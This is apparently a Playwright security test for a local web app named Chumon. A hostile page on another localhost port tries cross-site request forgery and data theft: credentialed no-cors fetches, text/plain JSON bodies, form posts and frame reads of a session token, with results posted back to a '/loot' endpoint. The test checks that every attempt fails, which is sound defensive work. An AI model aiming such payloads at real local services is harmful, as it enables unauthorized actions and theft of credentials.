import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { TestSmtpServer } from '../helpers/smtp.js';
import { expect, tabCount, test } from './fixtures.js';

/**
 * Browser mode listens on 127.0.0.1; any other program on this PC can serve a page on
 * another port there, and to a browser that page is "the same site". Here such a page, open
 * in the same browser as the clerk's Chumon tab, tries what a cross-site request can: no-cors
 * fetches with credentials and a text/plain JSON body, CORS fetches, form posts, reading the
 * app in a frame. None of it may create anything, read the mail settings or send a mail.
 */

const SMTP_PASSWORD = `SmtpP4ss-${Math.random().toString(36).slice(2)}`;

/** The hostile page: every attempt, then `window.done`; what it gets is posted back to /loot. */
function hostilePage(app: string): string {
  return `<!doctype html><meta charset="utf-8"><title>hostile</title><body><iframe name="sink"></iframe><script>
const app = ${JSON.stringify(app)};
const loot = (what, text) => fetch('/loot', { method: 'POST', body: what + ':' + text });
const tried = [];
async function attempt(label, run) {
  try { const r = await run(); tried.push(label + ':' + (r && r.type ? r.type + ' ' + r.status : 'done')); }
  catch (e) { tried.push(label + ':blocked'); }
}
const sub = (n) => JSON.stringify({ mainStatus: 'new', name: '攻撃' + n, color: '#000000' });
const post = (method, body, init) => fetch(app + '/api/' + method, { method: 'POST', credentials: 'include', body, ...init });
function formPost(method, enctype, name, value) {
  return new Promise((resolve) => {
    const sink = document.querySelector('iframe[name=sink]');
    sink.onload = () => resolve({ type: 'form', status: 0 });
    const form = document.createElement('form');
    form.method = 'POST'; form.action = app + '/api/' + method; form.enctype = enctype; form.target = 'sink';
    const input = document.createElement('input');
    input.name = name; input.value = value; form.appendChild(input);
    document.body.appendChild(form); form.submit();
    setTimeout(() => resolve({ type: 'form-timeout', status: 0 }), 3000);
  });
}
(async () => {
  await attempt('no-cors text/plain', () => post('subStatus:add', sub(1), { mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } }));
  await attempt('no-cors test mail', () => post('mail:testSend', JSON.stringify({ to: 'thief@example.jp' }), { mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } }));
  await attempt('no-cors no type', () => post('subStatus:add', sub(2), { mode: 'no-cors' }));
  await attempt('cors json', async () => { const r = await post('mail:settings', '{}', { headers: { 'Content-Type': 'application/json' } }); await loot('cors', await r.text()); return r; });
  await attempt('cors token header', async () => { const r = await post('subStatus:add', sub(3), { headers: { 'Content-Type': 'application/json', 'X-Chumon-Token': 'guess' } }); await loot('hdr', await r.text()); return r; });
  await attempt('no-cors events', () => fetch(app + '/api/events', { mode: 'no-cors', credentials: 'include' }));
  await attempt('form text/plain', () => formPost('subStatus:add', 'text/plain', '{"mainStatus":"new","name":"攻撃4","color":"#000000","x":"', '"}'));
  await attempt('form urlencoded', () => formPost('mail:testSend', 'application/x-www-form-urlencoded', 'to', 'thief@example.jp'));
  await attempt('frame read', () => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.src = app + '/';
    frame.onload = () => {
      try { loot('frame', String(frame.contentWindow.sessionStorage.getItem('chumon.token'))); } catch (e) { /* cross-origin */ }
      resolve({ type: 'frame', status: 0 });
    };
    document.body.appendChild(frame);
    setTimeout(() => resolve({ type: 'frame-timeout', status: 0 }), 3000);
  }));
  await fetch('/tried', { method: 'POST', body: JSON.stringify(tried) });
  window.done = true;
})();
</script>`;
}

test('a page on another 127.0.0.1 port can neither act in Chumon nor read from it', async ({ page, chumon }) => {
  const smtp = await TestSmtpServer.start({ auth: { user: 'shop', pass: SMTP_PASSWORD } });
  const origin = new URL(chumon.url).origin;
  const token = new URL(chumon.url).searchParams.get('token')!;
  const saved = await fetch(`${origin}/api/mail:saveSettings`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
    body: JSON.stringify({
      host: '127.0.0.1',
      port: smtp.port,
      security: 'none',
      user: 'shop',
      password: SMTP_PASSWORD,
      fromAddress: 'shop@example.jp',
      fromName: '店',
      encoding: 'utf8',
      shopName: '店',
      signature: '',
      bankAccount: '',
    }),
  });
  expect(((await saved.json()) as { ok: boolean }).ok).toBe(true);

  // The clerk opens Chumon by its URL: the token leaves the address bar, no cookie is set,
  // and a reload keeps working (sessionStorage).
  await page.goto(chumon.url);
  expect(await tabCount(page, '新規')).toBeGreaterThan(0);
  await expect.poll(() => page.url()).not.toContain('token');
  expect(await page.context().cookies()).toEqual([]);
  await page.reload();
  expect(await tabCount(page, '新規')).toBeGreaterThan(0);

  const loot: string[] = [];
  let tried: string[] = [];
  const hostile = http.createServer((req, res) => {
    let body = '';
    req.on('data', (chunk: Buffer) => (body += chunk.toString()));
    req.on('end', () => {
      if (req.url === '/loot') loot.push(body);
      else if (req.url === '/tried') tried = JSON.parse(body) as string[];
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(req.url === '/' ? hostilePage(origin) : '');
    });
  });
  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
  try {
    const attacker = await page.context().newPage();
    await attacker.goto(`http://127.0.0.1:${(hostile.address() as AddressInfo).port}/`);
    await attacker.waitForFunction(() => (window as unknown as { done?: boolean }).done === true, undefined, {
      timeout: 30_000,
    });
    // Every attempt was made (a no-cors request goes out and comes back opaque).
    expect(tried).toHaveLength(9);
    expect(tried.filter((t) => t.includes('opaque'))).toHaveLength(4);

    expect(chumon.query<{ n: number }>("SELECT count(*) AS n FROM sub_statuses WHERE name LIKE '攻撃%'")[0]!.n).toBe(0);
    expect(smtp.connections).toBe(0);
    expect(smtp.logins).toEqual([]);
    const taken = loot.join('\n');
    for (const secret of [SMTP_PASSWORD, token, 'shop@example.jp', String(smtp.port)])
      expect(taken).not.toContain(secret);
    await attacker.close();

    // The clerk's own tab still works.
    await page.getByRole('tab', { name: /^新規\s/ }).click();
    expect(await tabCount(page, '新規')).toBeGreaterThan(0);
  } finally {
    hostile.close();
    await smtp.close();
  }
});
